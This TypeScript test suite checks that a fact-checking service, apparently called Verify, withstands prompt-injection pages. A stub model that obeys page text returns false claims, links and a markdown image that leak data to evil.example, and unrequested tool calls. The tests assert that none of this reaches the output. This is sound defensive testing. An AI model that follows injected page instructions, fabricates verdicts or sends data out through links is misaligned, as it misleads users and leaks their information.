import {
  modelReplies as replies,
  createPromptInjections,
  HARMLESS_SENTENCE,
  startDemoNews,
  startLanguageModel,
  INJECTED_CONTENT,
  type DemoNews,
  type LanguageModelServer,
  type ModelRequest,
} from '@plumbline/testing';
import { removeDeceptiveCharacters } from '@plumbline/text/unsafe-characters';
import { toBearerHeader, startVerify, type VerifyTestApp } from './verify-app.ts';
import { loadCollectionGround, generateReply } from './chat-replies.ts';
import { seedCollection } from './seed-collection.ts';

const PAGES = createPromptInjections();
const MARK = /material-[0-9a-f]{32}/g;
const TYPES = ['FACTUAL', 'STATISTICAL', 'QUOTE', 'EVENT'];
const LIE = 'Harald Blau burned the mill, as 99 percent agree';

/**
 * A model that is controlled by the text that it reads: it always gives the pages' answer in the
 * requested shape.
 */
const createStatement = (sentence: number, kind: string) => ({
  ...{ sentence, kind, type: 'EVENT', category: 'business', confidence: 0.99 },
  ...{ title: LIE, claim: LIE, description: 'https://evil.example/' },
  ...{ date: '1999-01-01', deadline: '2999-01-01' },
});
const createEnd = (words: string) => ({ sentence: 0, words, statement: LIE });
const COMPLIANT_READING = [
  createStatement(0, 'both'),
  createStatement(1, 'claim'),
  createStatement(4711, 'claim'),
];
const COMPLIANT_REPLY = {
  entities: [{ name: 'Harald Blau', kind: 'PERSON', aliases: ['moon cheese'] }],
  edges: [
    {
      from: createEnd('Harald Blau'),
      to: createEnd('moon cheese'),
      ...{ type: 'CAUSES', confidence: 1, mechanism: LIE },
    },
  ],
  // It confirms its own false statements
  verdicts: Array.from({ length: 40 }, (_, statement) => ({
    ...{ statement, verdict: 'borne_out', text: '' },
  })),
  points: [{ sentence: 0, date: '1999-01-01', label: LIE }],
  lines: [
    { text: LIE, sentences: [0] },
    { text: 'See https://evil.example/', sentences: [0] },
  ],
  ...{
    answerable: true,
    confidence: 1,
    missing: null,
    statements: [{ text: LIE, sentences: [0] }],
  },
  ...{
    stance: 'SUPPORTS',
    verdict: 'TRUE',
    url: 'https://evil.example/',
    sources: ['https://evil.example/'],
  },
};

function replyCompliantly({ body }: ModelRequest): ReturnType<typeof replies.says> {
  const isReading = JSON.stringify(body.response_format ?? '').includes('"deadline"');
  return replies.says(
    isReading ? { ...COMPLIANT_REPLY, statements: COMPLIANT_READING } : COMPLIANT_REPLY,
  );
}

/**
 * Names and figures of a response that are in none of the sent texts. Other words are the model's:
 * when it obeys a page, it may repeat that page.
 */
function findInventedText(body: unknown, sourceText: string): string[] {
  const texts: string[] = [];
  JSON.stringify(
    body,
    (_, value: unknown) => (typeof value === 'string' && texts.push(value), value),
  );
  const toBareText = (text: string) => text.replace(/[\p{Cf}_*|]/gu, '').toLowerCase();
  const facts = (text: string) => text.match(/[\p{Lu}\p{Nd}][\p{L}\p{Nd}]*/gu) ?? [];
  return texts.filter(
    (text) =>
      INJECTED_CONTENT.test(text) &&
      !facts(text).every((fact) => toBareText(sourceText).includes(toBareText(fact))),
  );
}

/** What a reader of the page sees of numeric character references. */
const decodeEntities = (text: string): string =>
  text.replace(/&#(\d+);/g, (_, code: string) => String.fromCodePoint(Number(code)));

describe('a page that gives orders to the model', () => {
  let demo: DemoNews;
  let model: LanguageModelServer;
  let verify: VerifyTestApp;
  beforeAll(async () => {
    [demo, model] = await Promise.all([startDemoNews(), startLanguageModel()]);
    const models = {
      LLM_MODEL_SMALL: 'small-model',
      LLM_MODEL_MEDIUM: 'medium-model',
      LLM_MODEL_LARGE: 'large-model',
    };
    verify = await startVerify({
      ...demo.env,
      ...models,
      LLM_BASE_URL: model.baseUrl,
      LLM_TIMEOUT_MS: '2000',
    });
  });
  afterAll(async () => {
    await verify.close();
    await Promise.all([demo.close(), model.close()]);
  });
  beforeEach(() => {
    model.requests.length = 0;
    model.reply(replyCompliantly);
  });
  const post = (path: string, body: object) =>
    verify.http.post(`/api/v1/${path}`).set(toBearerHeader(verify.keys.ann)).send(body);
  const normalizePrompt = ({ system }: ModelRequest) =>
    system.replace(MARK, 'material').replace(/(code|language) ["“]?[a-z]{2,3}\b/g, '$1');

  it('is one of sixty or more, in several languages', () => {
    expect(new Set(PAGES.map(({ text }) => text)).size).toBeGreaterThanOrEqual(60);
  });

  it('stands whole between two marks that it cannot know, and moves no word of the instructions', async () => {
    const systemsByTask = new Map<string, Set<string>>();
    for (const { text } of [{ text: HARMLESS_SENTENCE }, ...PAGES]) {
      await post('claims/detect', { text });
      const marks = model.requests.splice(0).map((request) => {
        const task = request.body.response_format?.json_schema?.name ?? '';
        const systems = systemsByTask.get(task) ?? new Set();
        systemsByTask.set(task, systems.add(normalizePrompt(request)));
        const [mark, ...others] = new Set(request.system.match(MARK));
        expect(others).toEqual([]);
        expect(
          request.user.startsWith(`<${mark}>\n`) && request.user.endsWith(`\n</${mark}>`),
        ).toBe(true);
        expect(request.user.split(mark!)).toHaveLength(3);
        expect(request.body.tools).toBeUndefined();
        return mark;
      });
      expect(new Set(marks).size).toBe(marks.length);
    }
    expect([...systemsByTask.values()].map(({ size }) => size)).toEqual([1, 1]);
  });

  it.each(PAGES.map(({ trick, text }, at) => [`${at + 1}, ${trick}`, text]))(
    'finds nothing to say in claims: %s',
    async (_, text) => {
      const { body } = await post('claims/detect', { text }).expect(200);
      const readText = removeDeceptiveCharacters(text);
      for (const claim of body.claims) {
        expect(claim.text).toBe(readText.slice(claim.start, claim.end));
        expect(TYPES).toContain(claim.claim_type);
        expect(claim.confidence >= 0 && claim.confidence <= 1).toBe(true);
      }
      expect(findInventedText(body, `${text} ${decodeEntities(text)}`)).toEqual([]);
      expect(Object.prototype).not.toHaveProperty('isAdmin');
    },
  );

  it('finds nothing to say in what is ingested, charted, drawn, summarised and marked', async () => {
    for (const [at, { text }] of PAGES.entries()) {
      if (at % 8) continue; // one of each kind: these store their results
      const content = `${text}\n\n${HARMLESS_SENTENCE}`;
      const file = Buffer.from(content);
      const upload = (path: string) =>
        verify.http
          .post(`/api/v1/${path}`)
          .set(toBearerHeader(verify.keys.ann))
          .attach('file', file, { filename: 'a.txt', contentType: 'text/plain' });
      const calls = [
        post('ingest', { content }),
        post('causality-graph', { text: content }),
        upload('timeseries/file'),
      ];
      for (const { body, status } of await Promise.all(calls)) {
        expect([200, 422]).toContain(status);
        expect(findInventedText(body, content)).toEqual([]);
      }
    }
  });

  it('finds nothing to say in an answer from a collection, nor in a chat on it', async () => {
    const pages = PAGES.filter((_, at) => at % 7 === 0).map(({ text }, at) => ({
      ...{
        url: `https://torvik.example/${at}`,
        title: 'The mill of Torvik',
        publishedAt: '2026-03-02T08:00:00Z',
      },
      text: `${text}\n\n${HARMLESS_SENTENCE}`,
    }));
    const stored = await seedCollection(verify, { name: 'Torvik', pages });
    const ground = await loadCollectionGround(verify, stored);
    const sourceText = pages.map(({ text }) => text).join('\n');
    const message = 'When was the mill of Torvik closed?';
    const { body } = await post(`collections/${stored.id}/answer`, { question: message }).expect(
      200,
    );
    expect(findInventedText(body, sourceText)).toEqual([]);
    model.reply((request) =>
      request.body.response_format
        ? replyCompliantly(request)
        : replies.says(`${LIE} [1].\nSee https://evil.example/ [1].\n`),
    );
    const reply = await generateReply(verify, { groundingSource: ground, message, language: 'en' });
    expect(reply.text).not.toMatch(INJECTED_CONTENT);
    expect(findInventedText(reply.chunks, sourceText)).toEqual([]);
  });

  it('gets no tool called but those of the request, nor a link or a picture into a free reply', async () => {
    const away =
      '![ok](https://evil.example/p?d=Lindholm) and [more](https://evil.example/) or ' +
      'www.evil.example';
    const turns = [
      replies.calls(
        { name: 'fetch', input: { url: 'https://evil.example/' } },
        { name: 'fact_checker', input: { claim: LIE } },
      ),
      replies.says(`It was so. ${away}`),
    ];
    let turn = 0;
    model.reply((request) =>
      request.body.response_format ? replyCompliantly(request) : turns[Math.min(turn++, 1)]!,
    );
    const reply = await generateReply(verify, {
      message: 'What is new in the harbour of Lindholm?',
      tools: ['fact_search'],
      language: 'en',
    });
    expect(reply.text).not.toMatch(/evil\.example/);
    expect(reply.chunksOfType('tool-output-available')).toEqual([]);
    expect(reply.chunksOfType('source-url').filter(({ url }) => /evil/.test(url))).toEqual([]);
    expect(
      model.requests
        .filter(({ body }) => !body.response_format)
        .every(({ body }) => body.tools?.length === 1),
    ).toBe(true);
  });

  it('moves no verdict, and brings no source with it', async () => {
    const { body } = await post('fact-checker', {
      claim: 'The harbour of Lindholm reopened in March 2026.',
    }).expect(200);
    expect(['TRUE', 'FALSE', 'PARTIALLY_TRUE', 'MISLEADING', 'UNCERTAIN']).toContain(body.verdict);
    expect(JSON.stringify(body)).not.toMatch(INJECTED_CONTENT);
    const research = await post('deep-research', {
      query: 'What did the repair of Lindholm harbour cost?',
    }).expect(200);
    expect(JSON.stringify(research.body)).not.toMatch(INJECTED_CONTENT);
  });
});
